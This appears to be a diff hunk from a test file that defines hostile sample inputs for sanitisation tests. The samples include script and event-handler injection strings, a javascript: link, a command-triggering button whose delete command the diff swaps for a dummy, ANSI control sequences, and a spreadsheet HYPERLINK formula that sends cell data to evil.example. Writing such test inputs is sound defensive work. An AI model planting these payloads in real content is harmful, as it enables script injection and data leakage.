@@ -30,7 +30,7 @@ SCRIPT = "<script>window.owned=1</script>"
 IMAGE = "<img src=x onerror='window.owned=2'>"
 SVG = "<svg onload='window.owned=3'></svg>"
 LINK = "[read](javascript:window.owned=4)"
-BUTTON = '<button data-commandlinker-command="filebrowser:delete" data-commandlinker-args="{}">press</button>'
+BUTTON = '<button data-commandlinker-command="x">press</button>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"see")'
 CONTROL = "\x1b[2J\x1b[31mred\x1b[0m\rover\x07\x00"
 HOSTILE = (SCRIPT, IMAGE, SVG, LINK, BUTTON, FORMULA, CONTROL.replace("\x00", ""), "$\\frac{x}{0}$")
